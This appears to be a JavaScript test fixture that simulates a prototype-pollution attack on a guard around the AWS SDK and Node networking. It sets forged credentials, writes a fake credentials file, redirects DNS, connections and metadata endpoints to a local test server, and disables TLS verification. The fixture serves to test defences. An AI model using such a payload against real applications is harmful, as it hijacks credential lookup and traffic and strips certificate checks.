// @ts-check
"use strict";
/**
 * What a JSON merge may put on `Object.prototype`, chosen to open the guard: its settings, what the SDK reads of its options
 * and of the environment, and options of Node's that lead a request elsewhere. Required with `-r`, or once our modules are
 * there. A stock program with all of it does not live long.
 */
const http = require("node:http");
const { join } = require("node:path");
const { writeFileSync } = require("node:fs");
const net = require("node:net");
const stranger = require("./stranger.cjs");

const KEY = process.env["ATTACK_STRANGER"] ?? "";
const { port } = stranger(KEY);
const CREDENTIALS = { accessKeyId: KEY, secretAccessKey: "x", sessionToken: "x" };
const CONFIG = join(process.env["HOME"] ?? "/tmp", `polluted-${process.pid}`);
writeFileSync(CONFIG, `[default]\naws_access_key_id = ${KEY}\naws_secret_access_key = x\nregion = us-east-1\n`);
const give = async () => CREDENTIALS;
const connect = () => net.connect(port(), "127.0.0.1");

/** @type {Record<string, unknown>} */
const PUT = {
  endpointMode: "IPv4",
  ec2InstanceProfileName: "stranger",
  AWS_EC2_METADATA_DISABLED: "false",
  AWS_EC2_METADATA_SERVICE_ENDPOINT: "http://127.0.0.1:1",
  AWS_PROFILE: "stranger",
  AWS_REGION: "us-east-1",
  AWS_ACCESS_KEY_ID: KEY,
  AWS_SECRET_ACCESS_KEY: "x",
  AWS_CONTAINER_CREDENTIALS_FULL_URI: "http://127.0.0.1:1/",
  AWS_WEB_IDENTITY_TOKEN_FILE: CONFIG,
  aws_access_key_id: KEY,
  aws_secret_access_key: "x",
  ec2_metadata_service_endpoint: "http://127.0.0.1:1",
  // What the SDK reads of its options and hands from one provider to the next.
  credentials: give,
  masterCredentials: give,
  roleAssumer: give,
  roleAssumerWithWebIdentity: give,
  credentialDefaultProvider: () => give,
  region: "us-east-1",
  clientConfig: { region: "us-east-1" },
  parentClientConfig: { region: "us-east-1", profile: "stranger" },
  callerClientConfig: { region: async () => "us-east-1", profile: "stranger" },
  filepath: CONFIG,
  configFilepath: CONFIG,
  ignoreCache: true,
  accountId: "111122223333",
  AccountId: "111122223333",
  accessKeyId: KEY,
  secretAccessKey: "x",
  // What Node.js reads of a request and of a connection.
  agent: new http.Agent(),
  lookup: (/** @type {string} */ _host, /** @type {any} */ options, /** @type {Function} */ done) => {
    if (options?.all === true) done(null, [{ address: "127.0.0.1", family: 4 }]);
    else done(null, "127.0.0.1", 4);
  },
  createConnection: connect,
  host: "127.0.0.1",
  hostname: "127.0.0.1",
  localAddress: "127.0.0.2",
  socketPath: `${CONFIG}.socket`,
  rejectUnauthorized: false,
  ca: [],
};
for (const [name, value] of Object.entries(PUT)) /** @type {any} */ (Object.prototype)[name] = value;
require("./settings.cjs");
